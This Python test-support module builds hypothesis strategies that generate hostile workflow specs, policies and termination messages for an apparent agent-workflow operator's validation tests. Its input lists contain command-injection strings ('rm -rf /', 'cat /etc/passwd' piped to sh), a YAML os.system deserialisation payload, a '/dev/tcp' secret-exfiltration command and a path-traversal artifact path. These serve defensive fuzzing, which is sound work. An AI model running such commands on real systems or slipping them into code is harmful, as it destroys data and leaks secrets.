"""Generated Workflows and policies, hostile ones among them (hypothesis strategies), and the
verdicts they must get: shared by the unit tests (tests/unit/test_hostile_input.py) and the
same documents sent to the real API server (tests/integration/test_hostile.py)."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

from hypothesis import HealthCheck
from hypothesis import strategies as st
from pydantic import ValidationError

from agentflow.api.models import (
    DEFAULT_AGENT_IMAGE,
    MAX_PROMPT_LENGTH,
    TERMINAL_WORKFLOW_PHASES,
    Workflow,
    WorkflowPhase,
)
from agentflow.children import RESERVED_ENV_PREFIX, WorkflowRef, build_step_job
from agentflow.engine import validate_workflow
from agentflow.engine.types import CreateJob, FallbackPolicy, JobState
from agentflow.observe import reported
from agentflow.report import TERMINATION_MESSAGE_LIMIT
from tests.support.crd_schema import SCHEMAS, crd_errors
from tests.support.world import World

MAX_PASSES = 2_000
HEALTH = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much]


# --------------------------------------------------------------------------------------------
# What a "clear message" is
# --------------------------------------------------------------------------------------------


def _property_names(node: Any) -> Iterator[str]:
    if isinstance(node, dict):
        for name, child in (node.get("properties") or {}).items():
            yield name
            yield from _property_names(child)
        for key in ("items", "additionalProperties"):
            yield from _property_names(node.get(key))


FIELD_NAMES = frozenset(
    name for schema in SCHEMAS.values() for name in _property_names(schema.schema)
)
_FIELD = re.compile(r"[A-Za-z]+")


def names_a_field(message: str) -> bool:
    """True when the message mentions a field of the API (a path such as ``spec.steps[2]``)."""
    return bool(FIELD_NAMES.intersection(_FIELD.findall(message)))


def assert_clear(messages: list[str], where: str) -> None:
    assert messages, f"{where}: rejected without a message"
    for message in messages:
        assert message.strip(), f"{where}: an empty message"
        assert names_a_field(message), f"{where}: {message[:300]!r} names no field"


def model_errors(error: ValidationError) -> list[str]:
    """The models' complaints as the operator reports them: ``spec.steps.0.name: ...``."""
    return [f"{'.'.join(map(str, e['loc']))}: {e['msg']}" for e in error.errors()]


# --------------------------------------------------------------------------------------------
# Generated documents
# --------------------------------------------------------------------------------------------

AGENT_NAMES = ["coder", "reviewer", "tester"]
JSON_LEAVES = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
)
JSON_VALUES = st.recursive(
    JSON_LEAVES,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)
HOSTILE_TEXT = st.sampled_from(
    [
        "ステップ",
        "a\u200bb",
        "\u202eevil",
        "😀",
        "x" * 64,
        "A",
        "-a",
        "a_b",
        "",
        "\x00",
        "a\nb",
        "a.b",
        "${HOME}",
        "$(AGENTFLOW_STEP)",
    ]
)
TEMPLATE_PIECES = [
    "{{ steps.s0.summary }}",
    "{{steps.s1.status}}",
    "{{ steps.s0.metrics.toolCalls }}",
    "{{ steps.s2.artifacts }}",
    "{{ steps.s0.phase }}",
    "{{ workflow.name }}",
    "{{ workflow.namespace }}",
    "{{ step.name }}",
    "{{ step.iteration }}",
    "{{ steps.ghost.summary }}",
    "{{ steps.s0 }}",
    "{{ steps. }}",
    "{{ env.HOME }}",
    "{{ steps.s0.summary | upper }}",
    "{{",
    "}}",
    "\\{{ literal }}",
    "{{ {{ steps.s0.summary }} }}",
    "$(AGENTFLOW_NAMESPACE)",
    "`rm -rf /`; $(cat /etc/passwd) && echo pwned | sh",
    "key: !!python/object/apply:os.system ['id']",
    "has(steps.s0.summary) && true",
    "ünïcödé ✓ 中文 \u202e",
    "plain words",
]
CEL_EXPRESSIONS = [
    "true",
    "false",
    'steps.s0.phase == "Succeeded"',
    'steps.s0.summary.contains("{{")',
    'workflow.name != ""',
    "size(steps) >= 0",
    "has(steps.s0.metrics.errors)",
    "result.iteration >= 2",
    'steps["s1"].phase != "Skipped"',
    "[1, 2, 3].all(x, x > 0)",
    "result.(",
    "1 +",
    "steps.",
    "unknown_var == 1",
    '"a" == 1',
    "1 / 0 == 1",
    "steps.ghost.phase == 'x'",
    "steps.s3.phase == 'Succeeded'",
    "[1, 2].map(x, x)",
    "steps.my-step.phase == 'x'",
    "{{ steps.s0.summary }}",
    "(" * 300 + "true" + ")" * 300,
    "!" * 1000 + "true",
    # String literals in forms a text scan misreads, hiding macros nested three deep.
    "'''it's''' != '' && [1].all(a, [1].all(b, [1].all(c, true)))",
    'r"\\" != "" && [1].all(a, [1].all(b, [1].all(c, true)))',
    'true // "\n && [1].all(a, [1].all(b, [1].all(c, true)))',
    '"\\q" == ""',
    'steps.s0.summary.matches("(")',
]


@st.composite
def prompts(draw: st.DrawFn) -> str:
    pieces = draw(st.lists(st.sampled_from(TEMPLATE_PIECES) | st.text(max_size=30), max_size=6))
    return " ".join(pieces)


@st.composite
def agents(draw: st.DrawFn, name: str) -> dict[str, Any]:
    agent: dict[str, Any] = {"name": name}
    if draw(st.booleans()):
        agent["provider"] = draw(st.sampled_from(["script", "command", "anthropic", "openai"]))
    if draw(st.integers(0, 3)) == 0:
        agent["image"] = draw(st.sampled_from(["python:3.12", "busybox", "evil.example/x:1"]))
        agent["command"] = draw(
            st.lists(st.sampled_from(["sh", "-c", "echo $(SECRET) > /dev/tcp/x", "python3"]))
        )
    env: list[dict[str, Any]] = []
    for i in range(draw(st.integers(0, 3))):
        var_name = draw(st.sampled_from([f"VAR{i}", "AGENTFLOW_PROMPT", "PATH", "API_KEY"]))
        if draw(st.booleans()):
            env.append({"name": var_name, "value": draw(st.text(max_size=20))})
        else:
            ref = {"name": f"{name}-secret", "key": "token"}
            env.append({"name": var_name, "valueFrom": {"secretKeyRef": ref}})
    if env:
        # Names must be unique for the Pod API; the models leave that to the API server.
        agent["env"] = list({v["name"]: v for v in env}.values())
    return agent


SAFE_CEL = ["true", "false", 'workflow.name != ""', "size(steps) >= 0"]


def safe_prompt(upstream: list[str]) -> st.SearchStrategy[str]:
    """Prompts whose references all resolve: text, workflow/step fields, upstream results."""
    pieces = ["{{ workflow.name }}", "{{ step.name }}", "\\{{ not a reference }}"]
    pieces += [f"{{{{ steps.{u}.summary }}}} {{{{ steps.{u}.phase }}}}" for u in upstream]
    return st.lists(st.sampled_from(pieces) | st.text(max_size=30), max_size=4).map(" ".join)


@st.composite
def workflow_specs(draw: st.DrawFn, hostile: bool | None = None) -> dict[str, Any]:
    """A Workflow spec; with ``hostile`` its prompts and CEL are drawn from the hostile lists."""
    if hostile is None:
        hostile = draw(st.booleans())
    agent_names = AGENT_NAMES[: draw(st.integers(1, 3))]
    count = draw(st.integers(1, 6))
    names = [f"s{i}" for i in range(count)]
    cel = CEL_EXPRESSIONS if hostile else SAFE_CEL
    strategy = draw(st.sampled_from(["Sequential", "Parallel", "DAG"]))
    steps: list[dict[str, Any]] = []
    for i, name in enumerate(names):
        step: dict[str, Any] = {"name": name, "agent": draw(st.sampled_from(agent_names))}
        deps: list[str] = []
        if i and draw(st.booleans()):
            deps = draw(st.lists(st.sampled_from(names[:i]), unique=True, max_size=3))
            step["dependsOn"] = deps
        if draw(st.booleans()):
            upstream = names[:i] if strategy == "Sequential" else deps
            step["prompt"] = draw(prompts() if hostile else safe_prompt(upstream))
        if draw(st.integers(0, 3)) == 0:
            step["when"] = draw(st.sampled_from(cel))
        if draw(st.integers(0, 4)) == 0:
            step["repeat"] = {
                "until": draw(st.sampled_from(cel)),
                "maxIterations": draw(st.integers(1, 3)),
            }
        if draw(st.integers(0, 3)) == 0:
            step["retries"] = {"limit": draw(st.integers(0, 2)), "backoffSeconds": 1}
        if draw(st.integers(0, 4)) == 0:
            step["timeoutSeconds"] = draw(st.integers(1, 100))
        steps.append(step)
    spec: dict[str, Any] = {
        "steps": steps,
        "agents": [draw(agents(a)) for a in agent_names],
        "strategy": strategy,
    }
    if draw(st.booleans()):
        spec["parallelism"] = draw(st.integers(1, 3))
    if draw(st.integers(0, 5)) == 0:
        spec["activeDeadlineSeconds"] = draw(st.integers(1, 600))
    return spec


def _containers(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every dict and list inside ``node``, with its path, the node itself first."""
    if isinstance(node, dict | list):
        yield path, node
        children = node.items() if isinstance(node, dict) else enumerate(node)
        for key, child in children:
            yield from _containers(child, (*path, key))


def leaves(node: Any) -> list[tuple[Any, Any]]:
    """(container, key) of every scalar inside ``node``."""
    found: list[tuple[Any, Any]] = []
    for _, container in _containers(node):
        children = container.items() if isinstance(container, dict) else enumerate(container)
        for key, child in children:
            if not isinstance(child, dict | list):
                found.append((container, key))
    return found


@st.composite
def mutations(draw: st.DrawFn, spec: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """One hostile change to a spec, and its kind (for hypothesis' statistics)."""
    spec = json.loads(json.dumps(spec))
    steps = spec["steps"]
    kind = draw(
        st.sampled_from(
            [
                "none",
                "unknown-field",
                "wrong-type",
                "huge-string",
                "hostile-text",
                "cycle",
                "unknown-reference",
                "self-dependency",
                "duplicate-name",
                "missing-field",
                "too-many",
            ]
        )
    )
    if kind == "unknown-field":
        containers = [c for _, c in _containers(spec) if isinstance(c, dict)]
        target = draw(st.sampled_from(containers))
        target[draw(st.sampled_from(["podSpecPatch", "hostNetwork", "securityContext", "x"]))] = (
            draw(JSON_VALUES)
        )
    elif kind == "wrong-type":
        container, key = draw(st.sampled_from(leaves(spec)))
        container[key] = draw(JSON_VALUES)
    elif kind == "huge-string":
        container, key = draw(st.sampled_from(leaves(spec)))
        container[key] = draw(st.sampled_from(["x", "{{", "é"])) * draw(
            st.sampled_from([MAX_PROMPT_LENGTH + 1, 70_000])
        )
    elif kind == "hostile-text":
        container, key = draw(st.sampled_from(leaves(spec)))
        container[key] = draw(HOSTILE_TEXT)
    elif kind == "cycle":
        spec["strategy"] = "DAG"
        first, last = steps[0], steps[-1]
        first["dependsOn"] = [*first.get("dependsOn", []), last["name"]]
        if first is not last:
            last["dependsOn"] = list(dict.fromkeys([*last.get("dependsOn", []), first["name"]]))
    elif kind == "unknown-reference":
        step = draw(st.sampled_from(steps))
        where = draw(st.sampled_from(["agent", "dependsOn", "prompt", "when"]))
        if where == "agent":
            step["agent"] = "ghost"
        elif where == "dependsOn":
            step["dependsOn"] = [*step.get("dependsOn", []), "ghost"]
        elif where == "prompt":
            step["prompt"] = "use {{ steps.ghost.summary }}"
        else:
            step["when"] = 'steps.ghost.phase == "Succeeded"'
    elif kind == "self-dependency":
        step = draw(st.sampled_from(steps))
        step["dependsOn"] = [*step.get("dependsOn", []), step["name"]]
    elif kind == "duplicate-name":
        what = draw(st.sampled_from(["steps", "agents"]))
        spec[what].append(dict(spec[what][0]))
    elif kind == "missing-field":
        containers = [c for _, c in _containers(spec) if isinstance(c, dict) and c]
        target = draw(st.sampled_from(containers))
        del target[draw(st.sampled_from(sorted(target)))]
    elif kind == "too-many":
        spec["steps"] = [{"name": f"n{i}", "agent": AGENT_NAMES[0]} for i in range(257)]
    return kind, spec


def workflow_document(spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "agentflow.dev/v1alpha1",
        "kind": "Workflow",
        "metadata": {"name": "hostile", "namespace": "team", "uid": "u-1", "generation": 1},
        "spec": spec,
    }


@st.composite
def policy_specs(draw: st.DrawFn) -> dict[str, Any]:
    rules: list[dict[str, Any]] = []
    for agent in draw(st.lists(st.sampled_from(AGENT_NAMES), unique=True, max_size=3)):
        rule: dict[str, Any] = {"agent": agent}
        if draw(st.booleans()):
            rule["fallback"] = draw(st.sampled_from([*AGENT_NAMES, "ghost"]))
        if draw(st.booleans()):
            rule["criticality"] = draw(st.sampled_from(["critical", "high", "medium", "low"]))
        if draw(st.booleans()):
            rule["skipIfUnavailable"] = draw(st.booleans())
        if draw(st.booleans()):
            rule["maxAttempts"] = draw(st.integers(1, 3))
        rules.append(rule)
    spec: dict[str, Any] = {"rules": rules}
    if draw(st.booleans()):
        spec["default"] = {
            "criticality": draw(st.sampled_from(["critical", "low"])),
            "skipIfUnavailable": draw(st.booleans()),
        }
    return spec


# --------------------------------------------------------------------------------------------
# Hostile termination messages
# --------------------------------------------------------------------------------------------

TERMINATION_MESSAGES = st.one_of(
    st.none(),
    st.just(""),
    st.text(max_size=300),
    st.binary(max_size=300).map(lambda b: b.decode("utf-8", "replace")),
    st.sampled_from(
        [
            "## Summary\nnext: {{ steps.s0.summary }} {{ workflow.name }}\n## Status\nsuccess\n",
            '{"v":1,"truncated":false,"size":99999999,"summary":"liar"}',
            '{"v":1,"truncated":false,"size":-5,"summary":"negative"}',
            '{"v":1,"truncated":"no","size":"big","summary":7,"artifacts":"x","metrics":[]}',
            '{"v":2,"summary":"from the future"}',
            '{"v":1,"summary":"' + "s" * 5000 + '"}',
            '{"v":1,"metrics":{"toolCalls":1e308,"extra":{"x":"NaN"}}}',
            '{"v":1,"artifacts":[{"path":"../../etc/passwd","action":"created"}]}',
            "[" * 100_000,
            '{"v":' + "[" * 5_000,
            "## Summary\n" + "\x00\x1b[31m" * 100,
            "## Metrics\n- Tool calls: 99999999999999999999999999\n- Errors: -3\n",
            "x" * (TERMINATION_MESSAGE_LIMIT + 1),
            "line\n" * 200,
        ]
    ),
)


# --------------------------------------------------------------------------------------------
# Driving the core to the end
# --------------------------------------------------------------------------------------------


def check_job(action: CreateJob, wf: Workflow) -> None:
    """The Job for ``action`` is exactly what the agent template says, the prompt is data."""
    ref = WorkflowRef(name=wf.metadata.name, namespace="team", uid="u-1")
    manifest = build_step_job(ref, action)
    pod = manifest["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    agent = action.agent
    assert container["image"] == (agent.image or DEFAULT_AGENT_IMAGE)
    assert container.get("command") == (agent.command or None)
    assert container.get("args") == (agent.args or None)
    env = {e["name"]: e for e in container["env"]}
    assert len(env) == len(container["env"]), "duplicate env names"
    # The rendered prompt is one literal value that no agent env entry can shadow.
    # (every `$` doubled, so the kubelet's $(VAR) expansion gives the prompt back unchanged)
    assert env["AGENTFLOW_PROMPT"] == {
        "name": "AGENTFLOW_PROMPT",
        "value": action.prompt.replace("$", "$$"),
    }
    # Secrets: exactly the references this agent declares, nothing from other agents.
    declared = {
        (v.name, v.value_from.secret_key_ref.name, v.value_from.secret_key_ref.key)
        for v in agent.env
        if v.value_from is not None and not v.name.startswith(RESERVED_ENV_PREFIX)
    }
    referenced = {
        (e["name"], e["valueFrom"]["secretKeyRef"]["name"], e["valueFrom"]["secretKeyRef"]["key"])
        for e in container["env"]
        if "valueFrom" in e
    }
    assert referenced <= declared
    assert pod["automountServiceAccountToken"] is False
    assert container["securityContext"]["allowPrivilegeEscalation"] is False
    assert set(pod) <= {
        "restartPolicy",
        "automountServiceAccountToken",
        "enableServiceLinks",
        "securityContext",
        "containers",
        "volumes",
        "serviceAccountName",
    }


@dataclass
class Outcome:
    phase: WorkflowPhase
    message: str
    jobs: int
    status_bytes: int


def run_to_the_end(
    wf: Workflow, policy: FallbackPolicy, seed: int, messages: list[str | None]
) -> Outcome:
    rng = random.Random(seed)
    w = World(wf, policy=policy)
    for _ in range(MAX_PASSES):
        p = w.plan()
        for action in p.actions:
            if isinstance(action, CreateJob):
                check_job(action, wf)
        status = p.status
        if status.phase in TERMINAL_WORKFLOW_PHASES:
            assert w.active() == [], "a finished Workflow left Jobs running"
            assert status.message, "a finished Workflow says nothing"
            wire = json.dumps(status.model_dump(mode="json", by_alias=True, exclude_none=True))
            return Outcome(status.phase, status.message, len(w.created), len(wire.encode()))
        finished = False
        for job in w.active():
            if rng.random() < 0.6:
                finished = True
                ok = rng.random() < 0.85
                state = JobState.SUCCEEDED if ok else JobState.FAILED
                result, failure = reported(state, rng.choice(messages))
                w.jobs[job.name] = replace(
                    job,
                    state=state,
                    finished_at=w.now,
                    exit_code=0 if ok else rng.choice([1, 2, 137, 255]),
                    reason=None if ok else rng.choice([None, "Error", "DeadlineExceeded"]),
                    message=failure,
                    result=result,
                )
        if finished or w.active():
            w.tick(1)
        elif p.requeue_after is not None:
            w.tick(p.requeue_after)
        else:
            raise AssertionError(f"stuck: nothing runs and nothing is due: {status}")
    raise AssertionError(f"not finished after {MAX_PASSES} passes: {w.phases()}")


@dataclass
class Verdict:
    crd: list[str]
    strict: list[str]  # the models, typed as the API server types JSON
    lax: list[str]  # the models as the operator reads an object
    core: list[str]
    workflow: Workflow | None


def judge_workflow(doc: dict[str, Any]) -> Verdict:
    crd = crd_errors(doc)
    try:
        Workflow.model_validate_json(json.dumps(doc), strict=True)
        strict: list[str] = []
    except ValidationError as error:
        strict = model_errors(error)
    try:
        wf = Workflow.model_validate(doc)
    except ValidationError as error:
        return Verdict(crd, strict, model_errors(error), [], None)
    return Verdict(crd, strict, [], validate_workflow(wf.spec), wf)


# --------------------------------------------------------------------------------------------
# Properties
# --------------------------------------------------------------------------------------------
